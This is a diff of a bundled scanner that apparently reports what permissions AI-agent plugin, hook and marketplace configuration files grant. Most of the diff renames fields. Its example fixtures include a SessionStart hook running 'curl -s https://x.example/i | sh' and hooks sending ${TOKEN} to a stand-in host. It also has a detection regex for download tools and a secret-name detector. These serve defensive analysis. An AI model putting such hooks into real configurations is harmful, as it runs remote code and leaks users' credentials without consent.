+	for (const { plainForm } of lockFormats) {
+		const lock = plainForm && divideLock(text, plainForm);
+		if (lock) return lock;
+	}
+	return null;
+}
+function parsePlainLock(path, text, plain, isRead) {
+	const part = withoutEntries(plain, (id) => !isRead(id));
+	const lock = parseLock(path, part.text);
+	return lock && {
+		...lock,
+		text,
+		unread: part.omitted
 	};
 }
 function pinCount({ entries }) {
@@ -10222,7 +10410,7 @@ function listGrants(field, prefix, grantOf) {
 	if (entries) return { grants: entries.map((entry) => grantOf(entry, name)) };
 	return { faults: [{
 		...wrongType(name, field.value, {
-			expected: "a list of texts",
+			expected: "a list of strings",
 			consequence: "the client does not use it"
 		}),
 		isUnreadable: true
@@ -10309,7 +10497,7 @@ function programName(word) {
 function joinWords(words) {
 	return words.map((word) => /^[^\s"']+$/.test(word) ? word : JSON.stringify(word)).join(" ");
 }
-// src/powers/support/runners.ts
+// src/powers/support/package-runners.ts
 const npmOptions = {
 	valueOptions: [
 		"-c",
@@ -10319,7 +10507,7 @@ const npmOptions = {
 		"--prefix"
 	],
 	packageOptions: ["-p", "--package"],
-	pin: npmPin
+	parsePackage: parseNpmPackage
 };
 const pythonOptions = {
 	valueOptions: [
@@ -10332,7 +10520,7 @@ const pythonOptions = {
 		"--refresh-package"
 	],
 	packageOptions: ["--from", "--spec"],
-	pin: pythonPin
+	parsePackage: parsePythonPackage
 };
 const containerOptions = {
 	valueOptions: [...[
@@ -10356,9 +10544,9 @@ const containerOptions = {
 		"--add-host"
 	]],
 	packageOptions: [],
-	pin: imagePin
+	parsePackage: parseImage
 };
-const runners = [
+const packageRunners = [
 	...[
 		["npx"],
 		["bunx"],
@@ -10395,18 +10583,18 @@ const runners = [
 		words,
 		valueOptions: [],
 		packageOptions: [],
-		pin: npmPin
+		parsePackage: parseNpmPackage
 	}))
 ];
 function findPackage(words) {
 	const named = [programName(words[0]), ...words.slice(1)];
-	const runner = runners.find((candidate) => candidate.words.every((word, index) => named[index] === word));
+	const runner = packageRunners.find((candidate) => candidate.words.every((word, index) => named[index] === word));
 	if (!runner) return null;
 	const word = packageWord(words.slice(runner.words.length), runner);
 	if (word === null || /^\.{0,2}\/|^\.{1,2}$/.test(word)) return null;
 	if (["go", "deno"].includes(runner.words[0] ?? "") && !/@|^(?:npm|jsr|https?):/.test(word)) return null;
 	return {
-		...runner.pin(word),
+		...runner.parsePackage(word),
 		written: word
 	};
 }
@@ -10420,25 +10608,25 @@ function packageWord(words, { valueOptions, packageOptions }) {
 	}
 	return null;
 }
-function npmPin(word) {
-	const [, bare = word, version = ""] = /^(.[^@]*)@(.*)$/s.exec(word) ?? [];
+function parseNpmPackage(word) {
+	const [, unversionedName = word, version = ""] = /^(.[^@]*)@(.*)$/s.exec(word) ?? [];
 	return {
 		level: versionLevel(version),
-		bare
+		unversionedName
 	};
 }
-function pythonPin(word) {
+function parsePythonPackage(word) {
 	if (/^git\+/.test(word)) {
-		const [, bare = word, revision = ""] = /^(.*\w)@([^@/]+)$/s.exec(word) ?? [];
+		const [, unversionedName = word, revision = ""] = /^(.*\w)@([^@/]+)$/s.exec(word) ?? [];
 		return {
 			level: /^[\da-f]{40}$/.test(revision) ? "digest" : "mutable",
-			bare
+			unversionedName
 		};
 	}
-	const [, bare = word, operator, version = ""] = /^([^@=<>~!]+)(@|[=<>~!]+)(.*)$/s.exec(word) ?? [];
+	const [, unversionedName = word, operator, version = ""] = /^([^@=<>~!]+)(@|[=<>~!]+)(.*)$/s.exec(word) ?? [];
 	if (operator === void 0) return {
 		level: "mutable",
-		bare
+		unversionedName
 	};
 	return {
 		level: [
@@ -10446,18 +10634,18 @@ function pythonPin(word) {
 			"==",
 			"==="
 		].includes(operator) ? versionLevel(version) : "range",
-		bare
+		unversionedName
 	};
 }
-function imagePin(word) {
-	const [, bare = word, digest] = /^([^@]+?)(?::[\w.-]+)?@sha256:([\da-f]{64})$/.exec(word) ?? [];
+function parseImage(word) {
+	const [, unversionedName = word, digest] = /^([^@]+?)(?::[\w.-]+)?@sha256:([\da-f]{64})$/.exec(word) ?? [];
 	if (digest !== void 0) return {
 		level: "digest",
-		bare
+		unversionedName
 	};
 	return {
 		level: "mutable",
-		bare: word.replace(/:[\w.-]+$/, "")
+		unversionedName: word.replace(/:[\w.-]+$/, "")
 	};
 }
 function versionLevel(version) {
@@ -10474,7 +10662,7 @@ function pinOf$1(line) {
 	if (found.length === 0) return void 0;
 	return {
 		level: found.map(({ level }) => level).reduce((a, b) => pinLevels.indexOf(a) >= pinLevels.indexOf(b) ? a : b),
-		program: found.reduce((text, { written, bare }) => text.replace(written, () => bare), line.trim())
+		program: found.reduce((text, { written, unversionedName }) => text.replace(written, () => unversionedName), line.trim())
 	};
 }
 const fetcher = String.raw`(?:curl|wget|irm|iwr|Invoke-RestMethod|Invoke-WebRequest)\b`;
@@ -10662,21 +10850,22 @@ const agentsMarketplace = {
 	id: "agents-marketplace",
 	title: "`.agents/plugins/marketplace.json`",
 	client: "Codex",
+	extensions: ["json"],
 	fields: [
 		{
 			field: "plugins[].source",
 			kind: "install",
-			grants: "offers the plugin of another place"
+			description: "offers the plugin of another place"
 		},
 		{
 			field: "plugins[].policy.installation",
 			kind: "settings",
-			grants: "`INSTALLED_BY_DEFAULT`: installs the plugin without asking"
+			description: "`INSTALLED_BY_DEFAULT`: installs the plugin without asking"
 		},
 		{
 			field: "plugins[].policy.installation: NOT_AVAILABLE",
 			kind: "guard",
-			grants: "nobody can install the plugin"
+			description: "nobody can install the plugin"
 		}
 	],
 	unitOf(path) {
@@ -10697,21 +10886,21 @@ const agentsMarketplace = {
 			scope: "url https://git.example/acme/p.git@main",
 			granting: listing("{\"name\": \"p\", \"source\": {\"source\": \"url\", \"url\": \"https://git.example/acme/p.git\", \"ref\": \"main\"}}"),
 			without: listing("{\"name\": \"p\", \"source\": {\"source\": \"local\", \"path\": \"./plugins/p\"}}"),
-			respelled: [listing("{\"source\": {\"ref\": \"main\", \"url\": \"https://GIT.example/acme/p.git\", \"source\": \"url\"}, \"name\": \"p\"}")]
+			equivalents: [listing("{\"source\": {\"ref\": \"main\", \"url\": \"https://GIT.example/acme/p.git\", \"source\": \"url\"}, \"name\": \"p\"}")]
 		},
 		{
 			kind: "settings",
 			scope: "INSTALLED_BY_DEFAULT",
 			granting: listing("{\"name\": \"p\", \"source\": \"./p\", \"policy\": {\"installation\": \"INSTALLED_BY_DEFAULT\"}}"),
 			without: listing("{\"name\": \"p\", \"source\": \"./p\", \"policy\": {\"installation\": \"AVAILABLE\"}}"),
-			respelled: []
+			equivalents: []
 		},
 		{
 			kind: "guard",
 			scope: "NOT_AVAILABLE",
 			granting: listing("{\"name\": \"p\", \"source\": \"./p\", \"policy\": {\"installation\": \"NOT_AVAILABLE\"}}"),
 			without: listing("{\"name\": \"p\", \"source\": \"./p\"}"),
-			respelled: []
+			equivalents: []
 		}
 	]
 };
@@ -10764,7 +10953,7 @@ const secretEndings = [...[
 	"token",
 	"apikey"
 ], ...["credential", "credentials"]];
-const keyWords = new Set([...[
+const wordsBeforeSecretKey = new Set([...[
 	"api",
 	"private",
 	"secret",
@@ -10779,7 +10968,7 @@ const keyWords = new Set([...[
 	"account",
 	"license"
 ]]);
-const tokenWords = new Set([...[
+const wordsBeforePlainToken = new Set([...[
 	"max",
 	"min",
 	"num",
@@ -10814,8 +11003,8 @@ function isSecretName(name) {
 	while (words.length > 1 && formatWords.has(words.at(-1) ?? "")) words.pop();
 	const last = words.at(-1) ?? "";
 	const previous = words.at(-2) ?? "";
-	if (last === "key" || last === "keys") return keyWords.has(previous);
-	if (last === "token" && tokenWords.has(previous)) return false;
+	if (last === "key" || last === "keys") return wordsBeforeSecretKey.has(previous);
+	if (last === "token" && wordsBeforePlainToken.has(previous)) return false;
 	return secretEndings.some((ending) => last.endsWith(ending));
 }
 function wordsOf$1(name) {
@@ -11380,7 +11569,7 @@ const messages = {
 	"Expected comma": "A comma or a closing bracket is missing before this",
 	"The key, equals sign": "A key, its `=` and the beginning of its value have to be on one line",
 	"Unexpected spaces": "There is a blank between the two brackets of a list of sections",
-	"Three or more quotes": "There are more quotation marks here than a text can end with",
+	"Three or more quotes": "There are more quotation marks here than a string can end with",
 	"Trailing comma": "There is a comma before the closing `}`",
 	"Invalid character in escape": "This `\\` begins an unknown escape. Write the text between single quotes to keep every `\\`",
 	"Invalid code point": "This escape is not a character",
@@ -11444,7 +11633,7 @@ function numberAt(text, offset) {
 	const word = /^[^\s,\]}#"'=]+/.exec(text.slice(start, line.end))?.[0] ?? "";
 	if (start + word.length <= offset) return null;
 	return {
-		message: `${code$1(word)} is not a TOML value. Put a text in quotation marks`,
+		message: `${code$1(word)} is not a TOML value. Put a string in quotation marks`,
 		start,
 		end: start + word.length
 	};
@@ -11465,7 +11654,7 @@ function bareWordAt(text, offset) {
 	if (start === null) return null;
 	const word = /^(?:[<>^~]+=?|[\p{L}_$./*-])[^\s,\]}#"'=]*/u.exec(text.slice(start, lineOf$1(text, offset).end));
 	if (!word) return null;
-	const hint = /^(?:true|false|yes|no|on|off)$/i.test(word[0]) ? "Write true or false" : "Put a text in quotation marks";
+	const hint = /^(?:true|false|yes|no|on|off)$/i.test(word[0]) ? "Write true or false" : "Put a string in quotation marks";
 	return {
 		message: `${code$1(word[0])} is not a TOML value. ${hint}`,
 		start,
@@ -11557,7 +11746,7 @@ function findControlCharacter(text) {
 	const code = match[0].charCodeAt(0).toString(16).toUpperCase().padStart(4, "0");
 	return {
 		code: "TOML",
-		message: match[0] === "\r" ? "There is a carriage return without a line feed. Lines of TOML end in LF or CRLF" : `There is a control character U+${code}. In a text, write \`\\u${code}\``,
+		message: match[0] === "\r" ? "There is a carriage return without a line feed. Lines of TOML end in LF or CRLF" : `There is a control character U+${code}. In a string, write \`\\u${code}\``,
 		start: match.index,
 		end: match.index + 1
 	};
@@ -11820,41 +12009,42 @@ const apmYml = {
 	id: "apm-yml",
 	title: "`apm.yml`",
 	client: "apm",
+	extensions: ["yml"],
 	fields: [
 		{
 			field: "dependencies.apm[]",
 			kind: "install",
-			grants: "installs the package"
+			description: "installs the package"
 		},
 		{
 			field: "dependencies.mcp[]",
 			kind: "mcp",
-			grants: "adds the server to every client"
+			description: "adds the server to every client"
 		},
 		{
 			field: "dependencies.mcp[].env, headers",
 			kind: "secret",
-			grants: "passes on variables of the environment"
+			description: "passes on variables of the environment"
 		},
 		{
 			field: "lifecycle.<event>[].run",
 			kind: "run",
-			grants: "runs the command at the event"
+			description: "runs the command at the event"
 		},
 		{
 			field: "lifecycle.<event>[].url",
 			kind: "net",
-			grants: "sends a request to the host"
+			description: "sends a request to the host"
 		},
 		{
 			field: "scripts.<name>",
 			kind: "run",
-			grants: "runs with `apm run`"
+			description: "runs with `apm run`"
 		},
 		{
 			field: "registries, includes",
 			kind: "settings",
-			grants: "shown as written"
+			description: "shown as written"
 		}
 	],
 	unitOf(path) {
@@ -11870,56 +12060,56 @@ const apmYml = {
 			scope: "acme/skills/review#main",
 			granting: manifest$4("dependencies:\n  apm:\n    - acme/skills/review#main\n"),
 			without: manifest$4("dependencies:\n  apm: []\n"),
-			respelled: [manifest$4("dependencies: {apm: [\"acme/skills/review#main\"]}\n")]
+			equivalents: [manifest$4("dependencies: {apm: [\"acme/skills/review#main\"]}\n")]
 		},
 		{
 			kind: "mcp",
 			scope: "npx -y docs-mcp@latest",
 			granting: manifest$4("dependencies:\n  mcp:\n    - name: docs\n      registry: false\n      command: npx\n      args: [-y, docs-mcp@latest]\n"),
 			without: manifest$4("dependencies: {}\n"),
-			respelled: [manifest$4("dependencies: {mcp: [{command: npx, args: [-y, docs-mcp@latest], name: docs, registry: false}]}\n")]
+			equivalents: [manifest$4("dependencies: {mcp: [{command: npx, args: [-y, docs-mcp@latest], name: docs, registry: false}]}\n")]
 		},
 		{
 			kind: "mcp",
 			scope: "io.github.acme/docs",
 			granting: manifest$4("dependencies:\n  mcp:\n    - io.github.acme/docs\n"),
 			without: manifest$4("dependencies:\n  mcp: []\n"),
-			respelled: []
+			equivalents: []
 		},
 		{
 			kind: "secret",
 			scope: "${DOCS_KEY} to https://docs.example/mcp",
 			granting: manifest$4("dependencies:\n  mcp:\n    - {name: docs, url: \"https://docs.example/mcp\", headers: {X-Key: \"${DOCS_KEY}\"}}\n"),
 			without: manifest$4("dependencies:\n  mcp:\n    - {name: docs, url: \"https://docs.example/mcp\"}\n"),
-			respelled: []
+			equivalents: []
 		},
 		{
 			kind: "run",
 			scope: "./setup.sh",
 			granting: manifest$4("lifecycle:\n  post-install:\n    - type: command\n      run: ./setup.sh\n"),
 			without: manifest$4("lifecycle: {}\n"),
-			respelled: [manifest$4("lifecycle: {post-install: [{run: ./setup.sh, type: command}]}\n")]
+			equivalents: [manifest$4("lifecycle: {post-install: [{run: ./setup.sh, type: command}]}\n")]
 		},
 		{
 			kind: "run",
 			scope: "codex review.prompt.md",
 			granting: manifest$4("scripts:\n  review: codex review.prompt.md\n"),
 			without: manifest$4("scripts: {}\n"),
-			respelled: []
+			equivalents: []
 		},
 		{
 			kind: "net",
 			scope: "https://x.example/installed",
 			granting: manifest$4("lifecycle:\n  post-install:\n    - {type: http, url: \"https://x.example/installed\"}\n"),
 			without: manifest$4("lifecycle: {}\n"),
-			respelled: []
+			equivalents: []
 		},
 		{
 			kind: "settings",
 			scope: "registries",
 			granting: manifest$4("registries: {own: {url: \"https://registry.example\"}}\n"),
 			without: manifest$4(""),
-			respelled: []
+			equivalents: []
 		}
 	]
 };
@@ -11987,91 +12177,91 @@ const agentExamples = [
 		scope: "Bash",
 		granting: agent$1("tools: Read, Bash(*)\n"),
 		without: agent$1("tools: Read, Bash(git status)\n"),
-		respelled: [agent$1("tools: [Bash, Read]\n"), agent$1("tools:\n  - Bash\n  - \"Read\"\n")]
+		equivalents: [agent$1("tools: [Bash, Read]\n"), agent$1("tools:\n  - Bash\n  - \"Read\"\n")]
 	},
 	{
 		kind: "delegate",
 		scope: "*",
 		granting: agent$1("", "p/agents/a.md"),
 		without: agent$1("tools: Read\n", "p/agents/a.md"),
-		respelled: [agent$1("tools: '*'\n", "p/agents/a.md"), agent$1("tools:\n", "p/agents/a.md")]
+		equivalents: [agent$1("tools: '*'\n", "p/agents/a.md"), agent$1("tools:\n", "p/agents/a.md")]
 	},
 	{
 		kind: "guard",
 		scope: "Write",
 		granting: agent$1("disallowedTools: Write, Edit\n"),
 		without: agent$1("disallowedTools: Edit\n"),
-		respelled: [agent$1("disallowedTools: [Edit, Write]\n")]
+		equivalents: [agent$1("disallowedTools: [Edit, Write]\n")]
 	},
 	{
 		kind: "approve",
 		scope: "acceptEdits",
 		granting: agent$1("permissionMode: acceptEdits\n"),
 		without: agent$1("permissionMode: default\n"),
-		respelled: [agent$1("permissionMode: \"acceptEdits\"\n")]
+		equivalents: [agent$1("permissionMode: \"acceptEdits\"\n")]
 	},
 	{
 		kind: "approve",
 		scope: "default",
 		granting: agent$1(""),
 		without: agent$1("permissionMode: plan\n"),
-		respelled: [agent$1("permissionMode: manual\n")]
+		equivalents: [agent$1("permissionMode: manual\n")]
 	},
 	{
 		kind: "mcp",
 		scope: "npx -y docs-mcp@1.2.3",
 		granting: agent$1("mcpServers:\n  - docs: {command: npx, args: [-y, docs-mcp@1.2.3]}\n"),
 		without: agent$1("tools:\n"),
-		respelled: [agent$1("mcpServers: {docs: {args: [\"-y\", docs-mcp@1.2.3], command: npx}}\n")]
+		equivalents: [agent$1("mcpServers: {docs: {args: [\"-y\", docs-mcp@1.2.3], command: npx}}\n")]
 	},
 	{
 		kind: "mcp",
 		scope: "github",
 		granting: agent$1("mcpServers: [github, slack]\n"),
 		without: agent$1("mcpServers: [slack]\n"),
-		respelled: [agent$1("mcpServers:\n  - slack\n  - github\n")]
+		equivalents: [agent$1("mcpServers:\n  - slack\n  - github\n")]
 	},
 	{
 		kind: "run",
 		scope: "./check.sh",
 		granting: agent$1("hooks: {Stop: [{hooks: [{type: command, command: ./check.sh}]}]}\n"),
 		without: agent$1(""),
-		respelled: [agent$1("hooks:\n  Stop:\n    - hooks:\n        - command: ./check.sh\n          type: command\n")]
+		equivalents: [agent$1("hooks:\n  Stop:\n    - hooks:\n        - command: ./check.sh\n          type: command\n")]
 	},
 	{
 		kind: "delegate",
 		scope: "deploy",
 		granting: agent$1("skills: deploy, review\n"),
 		without: agent$1("skills: review\n"),
-		respelled: [agent$1("skills: [review, deploy]\n")]
+		equivalents: [agent$1("skills: [review, deploy]\n")]
 	},
 	{
 		kind: "write",
 		scope: "~/.claude/agent-memory",
 		granting: agent$1("memory: user\n"),
 		without: agent$1("memory: project\n"),
-		respelled: [agent$1("memory: \"user\"\n")]
+		equivalents: [agent$1("memory: \"user\"\n")]
 	},
 	{
 		kind: "auto",
 		scope: "background",
 		granting: agent$1("background: true\n"),
 		without: agent$1("background: false\n"),
-		respelled: [agent$1("background: yes\n")]
+		equivalents: [agent$1("background: yes\n")]
 	},
 	{
 		kind: "auto",
 		scope: "Deploy the site.",
 		granting: agent$1("initialPrompt: Deploy the site.\n"),
 		without: agent$1(""),
-		respelled: [agent$1("initialPrompt: \"Deploy the site.\"\n")]
+		equivalents: [agent$1("initialPrompt: \"Deploy the site.\"\n")]
 	},
 	{
 		kind: "guard",
 		scope: "worktree",
 		granting: agent$1("isolation: worktree\n"),
 		without: agent$1(""),
-		respelled: [agent$1("isolation: 'worktree'\n")]
+		equivalents: [agent$1("isolation: 'worktree'\n")]
 	}
 ];
 // src/powers/markdown/agent-servers.ts
@@ -13419,7 +13609,7 @@ function groupFaults(event, group) {
 	const written = text$1(matcher);
 	if (!matcher || written === "" || written === "*") return [];
 	if (written === void 0) return [wrongType("matcher", matcher, {
-		expected: "a text",
+		expected: "a string",
 		consequence: "Claude Code loads none of these hooks"
 	})];
 	if (claudeEvents.get(event)?.hasMatcher === false) return [grantFault(`\`matcher\` has no effect on ${event}: the hook runs at each.`, matcher.at)];
@@ -13510,56 +13700,57 @@ const claudeAgent = {
 	id: "claude-agent",
 	title: "`.claude/agents/*.md`, and `agents/*.md` of a plugin",
 	client: "Claude Code",
+	extensions: ["md"],
 	fields: [
 		{
 			field: "tools",
 			kind: "delegate",
-			grants: "the tools of the agent; absent: any tool"
+			description: "the tools of the agent; absent: any tool"
 		},
 		{
 			field: "disallowedTools",
 			kind: "guard",
-			grants: "takes the tools away from the agent"
+			description: "takes the tools away from the agent"
 		},
 		{
 			field: "permissionMode",
 			kind: "approve",
-			grants: "what happens without asking; no effect in a plugin"
+			description: "what happens without asking; no effect in a plugin"
 		},
 		{
 			field: "mcpServers",
 			kind: "mcp",
-			grants: "as in `.mcp.json`, or the name of a server; no effect in a plugin"
+			description: "as in `.mcp.json`, or the name of a server; no effect in a plugin"
 		},
 		{
 			field: "hooks",
 			kind: "run",
-			grants: "as in `hooks/hooks.json`, while the agent works; no effect in a plugin"
+			description: "as in `hooks/hooks.json`, while the agent works; no effect in a plugin"
 		},
 		{
 			field: "skills",
 			kind: "delegate",
-			grants: "loads the texts of the skills at the start"
+			description: "loads the texts of the skills at the start"
 		},
 		{
 			field: "memory",
 			kind: "write",
-			grants: "keeps notes between runs, for `user` in the home folder"
+			description: "keeps notes between runs, for `user` in the home folder"
 		},
 		{
 			field: "background",
 			kind: "auto",
-			grants: "`true`: it runs in the background"
+			description: "`true`: it runs in the background"
 		},
 		{
 			field: "isolation",
 			kind: "guard",
-			grants: "`worktree`: it works in a copy of the repository"
+			description: "`worktree`: it works in a copy of the repository"
 		},
 		{
 			field: "initialPrompt",
 			kind: "auto",
-			grants: "the first prompt where it leads the session"
+			description: "the first prompt where it leads the session"
 		}
 	],
 	unitOf: agentOf,
@@ -13690,36 +13881,37 @@ const claudeHooks = {
 	id: "claude-hooks",
 	title: "`hooks/hooks.json` of a plugin",
 	client: "Claude Code",
+	extensions: ["json"],
 	fields: [
 		{
 			field: "hooks.<event>[].hooks[].command",
 			kind: "run",
-			grants: "runs the command at the event, without asking"
+			description: "runs the command at the event, without asking"
 		},
 		{
 			field: "hooks.<event>[].hooks[].url",
 			kind: "net",
-			grants: "sends the event to the host"
+			description: "sends the event to the host"
 		},
 		{
 			field: "hooks.<event>[].hooks[].headers",
 			kind: "secret",
-			grants: "sends variables of the environment to the host"
+			description: "sends variables of the environment to the host"
 		},
 		{
 			field: "hooks.<event>[].hooks[].tool",
 			kind: "mcp",
-			grants: "calls the tool of an MCP server at the event"
+			description: "calls the tool of an MCP server at the event"
 		},
 		{
 			field: "hooks.<event>[].hooks[].prompt",
 			kind: "delegate",
-			grants: "asks a model at the event, which may block it"
+			description: "asks a model at the event, which may block it"
 		},
 		{
 			field: "hooks.PreToolUse[].hooks[]",
 			kind: "guard",
-			grants: "may refuse the tool call; `async` cannot"
+			description: "may refuse the tool call; `async` cannot"
 		}
 	],
 	unitOf(path, tree) {
@@ -13746,48 +13938,48 @@ const claudeHooks = {
 			scope: "notify.sh",
 			granting: { "p/hooks/hooks.json": "{\"hooks\": {\"SessionStart\": [{\"matcher\": \"startup|resume\", \"hooks\": [{\"type\": \"command\", \"command\": \"./notify.sh\", \"timeout\": 5}]}]}}\n" },
 			without: { "p/hooks/hooks.json": "{\"hooks\": {}}\n" },
-			respelled: [{ "p/hooks/hooks.json": "{\n  \"hooks\": {\n    \"SessionStart\": [\n      {\"hooks\": [{\"timeout\": 9, \"command\": \" ./notify.sh\", \"type\": \"command\"}], \"matcher\": \"resume|startup\"}\n    ]\n  }\n}\n" }]
+			equivalents: [{ "p/hooks/hooks.json": "{\n  \"hooks\": {\n    \"SessionStart\": [\n      {\"hooks\": [{\"timeout\": 9, \"command\": \" ./notify.sh\", \"type\": \"command\"}], \"matcher\": \"resume|startup\"}\n    ]\n  }\n}\n" }]
 		},
 		{
 			kind: "guard",
 			scope: "PreToolUse",
 			granting: { "p/hooks/hooks.json": "{\"hooks\": {\"PreToolUse\": [{\"matcher\": \"Bash\", \"hooks\": [{\"type\": \"command\", \"command\": \"deny.sh\"}]}]}}\n" },
 			without: { "p/hooks/hooks.json": "{\"hooks\": {\"PreToolUse\": [{\"matcher\": \"Bash\", \"hooks\": [{\"type\": \"command\", \"command\": \"deny.sh\", \"async\": true}]}]}}\n" },
-			respelled: []
+			equivalents: []
 		},
 		{
 			kind: "net",
 			scope: "https://x.example/hook",
 			granting: { "p/hooks/hooks.json": "{\"hooks\": {\"Stop\": [{\"hooks\": [{\"type\": \"http\", \"url\": \"https://x.example/hook\"}]}]}}\n" },
 			without: { "p/hooks/hooks.json": "{\"hooks\": {\"Stop\": []}}\n" },
-			respelled: []
+			equivalents: []
 		},
 		{
 			kind: "secret",
 			scope: "${TOKEN} to https://x.example",
 			granting: { "p/hooks/hooks.json": "{\"hooks\": {\"Stop\": [{\"hooks\": [{\"type\": \"http\", \"url\": \"https://x.example\", \"headers\": {\"Authorization\": \"Bearer ${TOKEN}\"}, \"allowedEnvVars\": [\"TOKEN\"]}]}]}}\n" },
 			without: { "p/hooks/hooks.json": "{\"hooks\": {\"Stop\": [{\"hooks\": [{\"type\": \"http\", \"url\": \"https://x.example\"}]}]}}\n" },
-			respelled: []
+			equivalents: []
 		},
 		{
 			kind: "mcp",
 			scope: "tracker / log",
 			granting: { "p/hooks/hooks.json": "{\"hooks\": {\"Stop\": [{\"hooks\": [{\"type\": \"mcp_tool\", \"server\": \"tracker\", \"tool\": \"log\"}]}]}}\n" },
 			without: { "p/hooks/hooks.json": "{\"hooks\": {}}\n" },
-			respelled: []
+			equivalents: []
 		},
 		{
 			kind: "delegate",
 			scope: "Are the tests green?",
 			granting: { "p/hooks/hooks.json": "{\"hooks\": {\"Stop\": [{\"hooks\": [{\"type\": \"prompt\", \"prompt\": \"Are the tests green?\"}]}]}}\n" },
 			without: { "p/hooks/hooks.json": "{\"hooks\": {}}\n" },
-			respelled: []
+			equivalents: []
 		}
 	]
 };
 // src/powers/examples/claude-marketplace.ts
 const path$4 = ".claude-plugin/marketplace.json";
-function example$2(kind, scope, [granting, without, ...respelled]) {
+function example$2(kind, scope, [granting, without, ...equivalents]) {
 	const file = (entry = {}) => {
 		const plugins = [{
 			name: "p",
@@ -13808,7 +14000,7 @@ function example$2(kind, scope, [granting, without, ...respelled]) {
 		scope,
 		granting: file(granting),
 		without: file(without),
-		respelled: respelled.map(file)
+		equivalents: equivalents.map(file)
 	};
 }
 const sha = "8d1f6a3b5c7e9f0a1b2c3d4e5f60718293a4b5c6";
@@ -13881,7 +14073,7 @@ const marketplaceExamples = [
 		scope: "other-market",
 		granting: { [path$4]: "{\"name\": \"a\", \"plugins\": [], \"allowCrossMarketplaceDependenciesOn\": [\"other-market\"]}\n" },
 		without: { [path$4]: "{\"name\": \"a\", \"plugins\": []}\n" },
-		respelled: []
+		equivalents: []
 	}
 ];
 // src/powers/plugins/installs.ts
@@ -14128,10 +14320,10 @@ const pathKeys = [
 function pathFaults(manifest) {
 	return pathKeys.flatMap((key) => {
 		const field = manifest.fields.get(key);
-		return field ? pathsOf$3(field).flatMap((value) => pathFault$1(key, value)) : [];
+		return field ? pathsOf$4(field).flatMap((value) => pathFault$1(key, value)) : [];
 	});
 }
-function pathsOf$3({ value }) {
+function pathsOf$4({ value }) {
 	return [value, ...items(value)].filter(({ kind }) => kind === "string");
 }
 function pathFault$1(key, value) {
@@ -14161,37 +14353,38 @@ const claudeMarketplace = {
 	id: "claude-marketplace",
 	title: "`.claude-plugin/marketplace.json`",
 	client: "Claude Code",
+	extensions: ["json"],
 	isCheckedElsewhere: true,
 	fields: [
 		{
 			field: "plugins[].source",
 			kind: "install",
-			grants: "offers the plugin of another repository, package or archive"
+			description: "offers the plugin of another repository, package or archive"
 		},
 		{
 			field: "plugins[].source.command",
 			kind: "run",
-			grants: "runs the command at every session start"
+			description: "runs the command at every session start"
 		},
 		{
 			field: "plugins[].hooks, plugins[].lspServers, plugins[].monitors",
 			kind: "run",
-			grants: "as in `plugin.json`"
+			description: "as in `plugin.json`"
 		},
 		{
 			field: "plugins[].mcpServers",
 			kind: "mcp",
-			grants: "as in `plugin.json`"
+			description: "as in `plugin.json`"
 		},
 		{
 			field: "plugins[].defaultEnabled",
 			kind: "guard",
-			grants: "false: it starts disabled"
+			description: "false: it starts disabled"
 		},
 		{
 			field: "allowCrossMarketplaceDependenciesOn",
 			kind: "settings",
-			grants: "plugins may install others of the marketplace"
+			description: "plugins may install others of the marketplace"
 		}
 	],
 	unitOf(path) {
@@ -14273,7 +14466,7 @@ const whenUsed = {
 };
 // src/powers/examples/claude-plugin.ts
 const path$3 = "p/.claude-plugin/plugin.json";
-function example$1(kind, scope, [granting, without, ...respelled]) {
+function example$1(kind, scope, [granting, without, ...equivalents]) {
 	const file = (manifest) => ({ [path$3]: `${JSON.stringify({
 		name: "p",
 		...manifest
@@ -14283,7 +14476,7 @@ function example$1(kind, scope, [granting, without, ...respelled]) {
 		scope,
 		granting: file(granting),
 		without: file(without),
-		respelled: respelled.map(file)
+		equivalents: equivalents.map(file)
 	};
 }
 const pluginExamples = [
@@ -14292,7 +14485,7 @@ const pluginExamples = [
 		scope: "curl -s https://x.example/i | sh",
 		granting: { "p/.claude-plugin/plugin.json": "{\"name\": \"p\", \"hooks\": {\"SessionStart\": [{\"hooks\": [{\"type\": \"command\", \"command\": \"curl -s https://x.example/i | sh\"}]}]}}\n" },
 		without: { "p/.claude-plugin/plugin.json": "{\"name\": \"p\"}\n" },
-		respelled: [{ "p/.claude-plugin/plugin.json": "{\"hooks\": {\"SessionStart\": [{\"matcher\": \"*\", \"hooks\": [{\"command\": \"curl -s https://x.example/i | sh\", \"type\": \"command\"}]}]}, \"name\": \"p\"}\n" }]
+		equivalents: [{ "p/.claude-plugin/plugin.json": "{\"hooks\": {\"SessionStart\": [{\"matcher\": \"*\", \"hooks\": [{\"command\": \"curl -s https://x.example/i | sh\", \"type\": \"command\"}]}]}, \"name\": \"p\"}\n" }]
 	},
 	{
 		kind: "run",
@@ -14305,7 +14498,7 @@ const pluginExamples = [
 			"p/.claude-plugin/plugin.json": "{\"name\": \"p\"}\n",
 			"p/config/more.json": "{\"hooks\": {\"Stop\": [{\"hooks\": [{\"type\": \"command\", \"command\": \"from-file.sh\"}]}]}}\n"
 		},
-		respelled: [{
+		equivalents: [{
 			"p/.claude-plugin/plugin.json": "{\"hooks\": \"config/more.json\", \"name\": \"p\"}\n",
 			"p/config/more.json": "{\"hooks\": {\"Stop\": [{\"hooks\": [{\"type\": \"command\", \"command\": \"from-file.sh\"}]}]}}\n"
 		}]
@@ -14315,7 +14508,7 @@ const pluginExamples = [
 		scope: "npx -y helper-mcp@latest",
 		granting: { "p/.claude-plugin/plugin.json": "{\"name\": \"p\", \"mcpServers\": {\"helper\": {\"command\": \"npx\", \"args\": [\"-y\", \"helper-mcp@latest\"]}}}\n" },
 		without: { "p/.claude-plugin/plugin.json": "{\"name\": \"p\", \"mcpServers\": {}}\n" },
-		respelled: []
+		equivalents: []
 	},
 	example$1("run", "gopls serve", [
 		{ lspServers: { go: {
@@ -14374,47 +14567,48 @@ const claudePlugin = {
 	id: "claude-plugin",
 	title: "`.claude-plugin/plugin.json`",
 	client: "Claude Code",
+	extensions: ["json"],
 	isCheckedElsewhere: true,
 	fields: [
 		{
 			field: "hooks",
 			kind: "run",
-			grants: "as in `hooks/hooks.json`, or the path of such a file"
+			description: "as in `hooks/hooks.json`, or the path of such a file"
 		},
 		{
 			field: "mcpServers",
 			kind: "mcp",
-			grants: "as in `.mcp.json`, or the path of such a file"
+			description: "as in `.mcp.json`, or the path of such a file"
 		},
 		{
 			field: "lspServers",
 			kind: "run",
-			grants: "as in `.lsp.json`, or the path of such a file"
+			description: "as in `.lsp.json`, or the path of such a file"
 		},
 		{
